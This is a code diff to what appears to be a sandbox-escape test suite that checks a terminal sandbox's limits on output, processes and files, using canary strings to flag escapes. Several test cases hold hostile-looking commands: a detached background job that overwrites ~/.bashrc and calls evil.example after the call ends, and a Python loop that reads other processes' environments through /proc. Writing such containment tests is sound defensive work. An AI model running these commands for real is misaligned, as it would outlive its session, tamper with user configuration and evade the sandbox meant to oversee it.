@@ -7,11 +7,12 @@ import { inC, python, type EscapeTheme } from './attempt.ts';
 export const limits: EscapeTheme = ({ project, mark }) => ({
   'more output than anybody keeps': {
     tries: async (terminal) => {
-      const { output } = await run(terminal, 'head -c 200000000 /dev/zero | tr "\\0" x', { timeoutMs: 15_000, maxOutput: 10_000 });
+      const { output } = await run(terminal, 'head -c 40000000 /dev/zero | tr "\\0" x', { timeoutMs: 15_000, maxOutput: 10_000 });
       return output.length > 60_000 ? `canary-7f3a91c2 ${output.length} characters were kept` : '';
     },
   },
-  'output that never ends a line, and signs that rule a screen': 'printf "\\033]0;x\\007\\033[2J\\033P$qm\\033\\\\"; head -c 3000000 /dev/urandom | base64 -w0 | tail -c 100',
+  'output that never ends a line, and signs that rule a screen':
+    'printf "\\033]0;x\\007\\033[2J\\033P$qm\\033\\\\"; head -c 3000000 /dev/urandom | base64 -w0 | tail -c 100',
   'a snapshot larger than is carried over': 'X=$(head -c 3000000 /dev/zero | tr "\\0" x); export X; true',
   'many processes, gone with the time-out': {
     tries: async (terminal) => {
@@ -34,14 +35,18 @@ export const limits: EscapeTheme = ({ project, mark }) => ({
   },
   'wait until the call is over, then act': {
     tries: async (terminal) => {
-      await run(terminal, `(setsid bash -c 'sleep 0.3; touch ${mark}; echo x > ~/.bashrc; curl -s -m1 -x http://127.0.0.1:14128 http://evil.example/' </dev/null >/dev/null 2>&1 &); true`);
+      await run(
+        terminal,
+        `(setsid bash -c 'sleep 0.3; touch ${mark}; echo x > ~/.bashrc; curl -s -m1 -x http://127.0.0.1:14128 http://evil.example/' </dev/null >/dev/null 2>&1 &); true`,
+      );
       await sleep(900);
       return '';
     },
   },
   'wait for the command of another': {
     tries: async (terminal) => {
-      const lurks = await terminal.start(python(`import os,time
+      const lurks = await terminal.start(
+        python(`import os,time
 end=time.time()+2
 while time.time()<end:
   for p in os.listdir("/proc"):
@@ -51,7 +56,9 @@ while time.time()<end:
         if "OWNER_ONLY" in e: print("canary-"+"7f3a91c2","environment of the way in")
         r=os.readlink("/proc/%s/root"%p)
         if os.path.exists("/proc/%s/root${mark.replace('/ran', '/key')}"%p): print("canary-"+"7f3a91c2","the root of the way in")
-      except OSError: pass`), { maxOutput: 5_000 });
+      except OSError: pass`),
+        { maxOutput: 5_000 },
+      );
       for (let at = 0; at < 15; at++) await run(terminal, 'true');
       await sleep(300);
       const told = lurks.output();
@@ -72,5 +79,5 @@ try:
   import resource; resource.setrlimit(resource.RLIMIT_MEMLOCK,(resource.RLIM_INFINITY,resource.RLIM_INFINITY)) if resource.getrlimit(resource.RLIMIT_MEMLOCK)[1]!=resource.RLIM_INFINITY else None; print("limits",resource.getrlimit(resource.RLIMIT_MEMLOCK))
 except (OSError,ValueError) as e: print(e)`),
   'a folder too deep to be looked through': `cd ${project}; for i in $(seq 300); do mkdir -p d && cd d || break; done; mkdir -p .git/hooks .vscode; echo x > .envrc; cd ${project}; rm -rf d`,
-  'very many folders in the project': `mkdir -p many && cd many && mkdir $(seq 5000) && cd .. && rm -rf many`,
+  'very many folders in the project': `mkdir -p many && cd many && mkdir $(seq 1500) && cd .. && rm -rf many`,
 });
